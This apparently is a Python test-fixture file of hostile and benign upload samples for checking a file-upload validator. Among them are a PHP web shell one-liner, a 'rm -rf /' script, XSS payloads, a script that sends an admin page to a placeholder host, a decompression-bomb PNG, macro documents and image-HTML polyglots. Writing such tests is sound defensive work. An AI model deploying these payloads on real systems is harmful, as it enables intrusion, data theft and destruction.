"""Hostile and awkward uploads, each built here from nothing, with what must happen to it.

`accepted` is the extension the stored file must get, or None when the upload must be
refused; `settings` are overrides a case needs (the size caps).
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

from PIL import Image

HTML = b"<!DOCTYPE html><html><body><script src='/media/resources/page.js'></script></body></html>"
SCRIPT = b"fetch('/admin/').then(r => r.text()).then(t => { new Image().src = '//x/?' + t })"
MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)


@dataclass
class Case:
    id: str
    filename: str
    build: object  # () -> bytes
    accepted: str | None
    settings: dict = field(default_factory=dict)

    def data(self):
        return self.build()


def image(fmt, size=(40, 30), mode="RGB", color=(200, 30, 30), **save):
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps():
    """A photo as phones write it: GPS position, a comment, and 'rotate 90°' in EXIF."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 49.0, 30.0), 3: "W", 4: (0.0, 8.0, 10.0)})
    return image("JPEG", size=(64, 48), exif=exif, comment=b"taken at home")


def bomb_png(width=100_000, height=100_000):
    """A PNG of a few dozen bytes whose header claims width x height pixels."""

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def zip_of(members, first=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, as ODF requires
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def ooxml(main_part, extra=None):
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            main_part: b'<?xml version="1.0"?><document/>',
            **(extra or {}),
        }
    )


def odf(kind, extra=None):
    return zip_of(
        {"content.xml": b'<?xml version="1.0"?><office:document-content/>', **(extra or {})},
        first=("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
    )


def ole2(stream_name, size=4096, storage=None):
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding one stream,
    and beside it an empty storage (folder) called `storage` if given."""
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    data_sectors = size // 512
    header = b"".join(
        [
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"\0" * 16,
            struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6),
            b"\0" * 6,
            struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0),
            struct.pack("<I", 0) + struct.pack("<I", free) * 108,
        ]
    )
    fat = [fat_sector, end] + [3 + i for i in range(data_sectors - 1)] + [end]
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat) + struct.pack("<I", free) * (
        128 - len(fat)
    )

    def entry(name, kind, child, start, length, right=no_stream):
        encoded = (name + "\0").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", no_stream, right, child)
            + b"\0" * 36
            + struct.pack("<II", start, length)
            + b"\0" * 4
        )

    empty = (
        b"\0" * 64
        + struct.pack("<HBB", 0, 0, 0)
        + struct.pack("<III", no_stream, no_stream, no_stream)
        + b"\0" * 48
    )
    if storage is None:
        directory = (
            entry("Root Entry", 5, 1, end, 0)
            + entry(stream_name, 2, no_stream, 2, size)
            + empty * 2
        )
    else:
        directory = (
            entry("Root Entry", 5, 1, end, 0)
            + entry(stream_name, 2, no_stream, 2, size, right=2)
            + entry(storage, 1, no_stream, 0, 0)
            + empty
        )
    return header + fat_bytes + directory + b"\x01" * size


def noisy_png():
    out = io.BytesIO()
    Image.effect_noise((200, 200), 64).save(out, "PNG")
    return out.getvalue()


def gif_with_html():
    return image("GIF", mode="P", color=1) + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_html():
    return image("JPEG") + b"<html><script>alert(document.cookie)</script></html>"


def truncated_jpeg():
    return image("JPEG", size=(400, 300))[:300]


SMALL_DOCUMENT_CAP = {"FLSE_UPLOAD_MAX_BYTES": 1000}
SMALL_IMAGE_CAP = {"FLSE_IMAGE_MAX_BYTES": 1000}

CASES = [
    # Markup and script, under their own names and under trusted ones.
    Case("html", "page.html", lambda: HTML, None),
    Case("javascript", "page.js", lambda: SCRIPT, None),
    Case("svg-with-script", "logo.svg",
         lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', None),
    Case("svg-renamed-png", "logo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', None),
    Case("xhtml", "page.xhtml",
         lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
         None),
    Case("xml", "data.xml", lambda: b'<?xml version="1.0"?><data/>', None),
    Case("html-renamed-pdf", "report.pdf", lambda: HTML, None),
    Case("html-renamed-jpg", "photo.jpg", lambda: HTML, None),
    Case("html-renamed-docx", "report.docx", lambda: HTML, None),
    Case("html-renamed-csv", "data.csv", lambda: b"name,town\n<img src=x onerror=alert(1)>,Hove\n",
         None),
    Case("html-with-bom-and-space", "notes.txt", lambda: b"\xef\xbb\xbf \n\t<html><body>hi", None),
    Case("php", "shell.php", lambda: b"<?php system($_GET['c']); ?>", None),
    Case("php-renamed-jpg", "shell.jpg", lambda: b"<?php system($_GET['c']); ?>", None),
    Case("shell-script", "run.txt", lambda: b"#!/bin/sh\nrm -rf /\n", None),
    # Tags a browser acts on that are not in the list of HTML words, or carry a handler.
    Case("details-ontoggle", "notes.txt", lambda: b"Hi <details open ontoggle=alert(1)>", None),
    Case("marquee", "notes.txt", lambda: b"News: <marquee>moving</marquee>", None),
    Case("p-onclick", "notes.txt", lambda: b"Read <p onclick=alert(1)>this</p>", None),
    Case("unknown-tag-onfocus", "notes.txt",
         lambda: b'<custom-el tabindex=1 autofocus\n  "x" onfocus = alert(1)>', None),
    Case("svg-slash-onload", "notes.txt", lambda: b"<svg/onload=alert(1)>", None),
    Case("namespaced-script", "notes.txt",
         lambda: b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', None),
    Case("namespaced-svg", "notes.txt",
         lambda: b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>', None),
    # Executables and archives.
    Case("windows-exe", "setup.exe", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, None),
    Case("elf", "tool.pdf", lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, None),
    Case("plain-zip", "bundle.zip", lambda: zip_of({"readme.txt": b"hello"}), None),
    Case("zip-renamed-docx", "report.docx", lambda: zip_of({"word/document.xml": b"<w/>"}), None),
    Case("content-types-without-main-part", "report.docx",
         lambda: zip_of({"[Content_Types].xml": CONTENT_TYPES, "page.html": HTML}), None),
    Case("macro-docm", "report.docx",
         lambda: ooxml("word/document.xml", {"word/vbaProject.bin": b"\x00macro"}), None),
    # Macros under other names than .docm's word/vbaProject.bin.
    Case("docx-macro-part-renamed", "report.docx",
         lambda: ooxml("word/document.xml", {
             "[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><Override PartName='
                 b'"/word/styles2.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                 b"</Types>"),
             "word/styles2.bin": b"\x00macro"}), None),
    Case("docx-macro-enabled-main", "report.docx",
         lambda: ooxml("word/document.xml", {
             "[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><Override PartName='
                 b'"/word/document.xml" ContentType="application/'
                 b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>')}), None),
    Case("xlsx-excel4-macro-sheet", "figures.xlsx",
         lambda: ooxml("xl/workbook.xml", {
             "[Content_Types].xml": CONTENT_TYPES.replace(b"/>", b'><Override PartName='
                 b'"/xl/macrosheets/sheet1.xml" ContentType="application/'
                 b'vnd.ms-excel.macrosheet+xml"/></Types>')}), None),
    Case("odt-basic-macro", "report.odt",
         lambda: odf("text", {"Basic/Standard/Module1.xml": b"<script:module/>"}), None),
    Case("ods-script", "figures.ods",
         lambda: odf("spreadsheet", {"Scripts/python/run.py": b"import os"}), None),
    Case("doc-with-macros", "report.doc", lambda: ole2("WordDocument", storage="Macros"), None),
    Case("xls-with-vba", "figures.xls",
         lambda: ole2("Workbook", storage="_VBA_PROJECT_CUR"), None),
    Case("ppt-with-vba", "slides.ppt", lambda: ole2("PowerPoint Document", storage="VBA"), None),
    Case("ole2-not-office", "installer.msi", lambda: ole2("SummaryInformation"), None),
    Case("corrupt-zip", "report.docx", lambda: b"PK\x03\x04" + b"\x00" * 40, None),
    # Images that must not be decoded or cannot be.
    Case("decompression-bomb-png", "bomb.png", bomb_png, None),
    Case("bomb-over-our-cap-only", "big.png", lambda: bomb_png(8000, 6000), None),
    Case("truncated-jpeg", "cut.jpg", truncated_jpeg, None),
    # Sizes and encodings.
    Case("empty", "empty.pdf", lambda: b"", None),
    Case("oversize-document", "big.pdf", lambda: MINIMAL_PDF + b"%" * 2000, None,
         SMALL_DOCUMENT_CAP),
    Case("oversize-image", "big.png", lambda: noisy_png(), None, SMALL_IMAGE_CAP),
    Case("oversize-text-read-no-further", "notes.txt", lambda: b"word " * 1000, None,
         {**SMALL_DOCUMENT_CAP, **SMALL_IMAGE_CAP}),
    Case("latin-1-text", "notes.txt", lambda: "Café in Hove".encode("latin-1"), None),
    Case("utf-16-text", "notes.txt", lambda: "Café".encode("utf-16"), None),
    Case("whitespace-only", "notes.txt", lambda: b" \n\n ", None),
    # Accepted: what staff really upload, whatever the name says.
    Case("pdf", "report.pdf", lambda: MINIMAL_PDF, "pdf"),
    Case("pdf-renamed-html", "report.html", lambda: MINIMAL_PDF, "pdf"),
    Case("docx", "report.docx", lambda: ooxml("word/document.xml"), "docx"),
    Case("xlsx", "figures.xlsx", lambda: ooxml("xl/workbook.xml"), "xlsx"),
    Case("pptx", "slides.pptx", lambda: ooxml("ppt/presentation.xml"), "pptx"),
    Case("docx-named-zip", "report.zip", lambda: ooxml("word/document.xml"), "docx"),
    Case("odt", "report.odt", lambda: odf("text"), "odt"),
    Case("ods", "figures.ods", lambda: odf("spreadsheet"), "ods"),
    Case("legacy-doc", "report.doc", lambda: ole2("WordDocument"), "doc"),
    Case("legacy-xls", "figures.xls", lambda: ole2("Workbook"), "xls"),
    Case("legacy-ppt", "slides.ppt", lambda: ole2("PowerPoint Document"), "ppt"),
    # A storage that is not a macro (Word keeps embedded objects in ObjectPool).
    Case("legacy-doc-with-objects", "report.doc",
         lambda: ole2("WordDocument", storage="ObjectPool"), "doc"),
    Case("odt-with-pictures", "report.odt",
         lambda: odf("text", {"Pictures/1.png": image("PNG")}), "odt"),
    Case("csv-utf8", "people.csv", lambda: "name,town\nZoë,Hove\nSiân,Lewes\n".encode(), "csv"),
    Case("csv-semicolons-bom", "figures.csv", lambda: b"\xef\xbb\xbfyear;count\n2024;3\n2025;5\n",
         "csv"),
    Case("text-utf8", "notes.txt",
         lambda: "Notes from the peer mentoring day – 3 < 5, and that’s fine.\n".encode(), "txt"),
    Case("prose-with-code-like-words", "minutes.txt",
         lambda: b"We looked out of the window. Then: fetch (and carry) the function (of "
                 b"the team); caseloads < 5 a week, and window.\n", "txt"),
    Case("prose-with-angle-brackets", "letter.txt",
         lambda: b"Write to <mailto:info@example.org> or see <https://example.org/a>; "
                 b"costs < set targets, and on=off switches.\n", "txt"),
    Case("jpeg-with-gps", "IMG_0001.JPG", jpeg_with_gps, "jpg"),
    Case("png-with-alpha", "logo.png", lambda: image("PNG", mode="RGBA", color=(0, 0, 0, 0)),
         "png"),
    Case("webp", "photo.webp", lambda: image("WEBP"), "webp"),
    Case("gif", "chart.gif", lambda: image("GIF", mode="P", color=1), "gif"),
    Case("polyglot-gif-html", "page.gif", gif_with_html, "gif"),
    Case("polyglot-jpeg-html", "page.html", jpeg_with_html, "jpg"),
    Case("png-named-jpg", "photo.jpg", lambda: image("PNG"), "png"),
]  # fmt: skip

IMAGE_EXTENSIONS = {"jpg", "png", "webp", "gif"}
